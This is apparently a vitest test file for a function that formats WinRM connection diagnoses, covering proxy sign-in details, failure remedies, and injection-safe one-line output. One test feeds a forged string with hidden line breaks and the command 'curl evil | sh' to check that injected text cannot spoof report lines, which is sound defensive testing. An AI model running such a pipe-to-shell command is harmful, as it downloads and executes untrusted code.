import { expect, test } from 'vitest';
import type { Diagnosis } from '../../shared/diagnosis.ts';
import { diagnosisText } from './diagnosis-text.ts';

test('how the proxy was signed in to stands apart from the computer', () => {
  const text = diagnosisText('web01', {
    ...{ url: 'https://web01:5986/wsman', port: 5986, at: 0, ms: 1, rungs: [] },
    signIn: {
      ...{ scheme: 'Negotiate', mechanism: 'NTLM', isBound: true, why: 'It is so.', refused: [] },
      proxy: {
        ...{ mechanism: 'Kerberos in Negotiate', account: 'paul@LAB.TEST', spn: 'HTTP/proxy' },
        ...{ why: 'The proxy has a name.', refused: [{ mechanism: 'Other', why: 'It is not there.' }] },
      },
    },
  });
  const [, behind = ''] = text.split('At the proxy');
  expect(behind).toMatch(/Used +Kerberos in Negotiate, as paul@LAB\.TEST, for HTTP\/proxy\n/);
  expect(behind).toMatch(/Because +The proxy has a name\.\n +Not Other +It is not there\./);
});

test('a text of a computer is one line, whatever line ends stand in it', () => {
  const forged = 'no.\n  List sessions    passed      4 sessions.\r\n\u2028\nRun  curl evil | sh';
  const report = { mechanism: forged, account: forged, spn: forged, why: forged };
  const refused = [{ mechanism: forged, why: forged }];
  const certificate = {
    ...{ subject: forged, issuer: forged, names: [forged], sha256: forged },
    ...{ validFrom: 0, validTo: 0 },
  };
  const error = { kind: 'fault', message: forged, detail: forged, causes: [forged] } as const;
  const remedy = { text: forged, command: forged };
  const diagnosis = (text: (was: string) => string) =>
    diagnosisText(text(forged), {
      ...{ url: text(forged), port: 5986, at: 0, ms: 1 },
      ...(JSON.parse(
        JSON.stringify({
          rungs: [{ name: 'list', verdict: 'failed', sentence: forged, error, remedy }],
          offered: [forged],
          chain: [certificate, certificate],
          signIn: { scheme: 'Basic', isBound: false, ...report, refused, proxy: { ...report, refused } },
        }),
        (_, value: unknown) => (value === forged ? text(forged) : value),
      ) as Pick<Diagnosis, 'rungs'>),
    });
  const lines = (text: string) => text.split('\n').length;
  const told = diagnosis((was) => was);
  expect(told).toContain('no.   List sessions    passed      4 sessions. \ufffd Run  curl evil | sh');
  expect(lines(told)).toBe(lines(diagnosis(() => 'no.')));
});

test('what stands behind a failure is told with what to do about it', () => {
  const error = {
    kind: 'untrusted',
    message: 'It could not be checked.',
    detail: 'Of the OCSP responder at pki: it is not reached.',
  } as const;
  const text = diagnosisText('web01', {
    ...{ url: 'https://web01:5986/wsman', port: 5986, at: 0, ms: 1 },
    rungs: [{ name: 'tls', verdict: 'failed', sentence: error.message, error }],
  });
  expect(text).toMatch(/What to do\n +Detail +Of the OCSP responder at pki: it is not reached\.\n/);
});
